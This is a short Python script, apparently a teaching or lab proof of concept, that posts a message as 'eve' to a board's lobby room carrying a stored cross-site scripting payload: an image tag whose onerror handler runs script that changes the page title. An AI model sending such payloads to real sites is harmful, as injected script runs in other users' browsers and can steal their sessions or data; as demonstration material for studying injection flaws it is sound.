"""Post a text that runs a script in a page which shows it as HTML: `eve.py BOARD`."""

import sys

import requests


def main(board: str) -> None:
    """Post to the room lobby as eve."""
    script = "document.title = 'Yours'"
    message = {"author": "eve", "text": f'<img src=nowhere onerror="{script}">'}
    with requests.Session() as session:
        session.trust_env = False  # Connect to the board directly, not through a proxy.
        session.post(f"{board}/rooms/lobby/messages", json=message).raise_for_status()


if __name__ == "__main__":
    main(sys.argv[1])
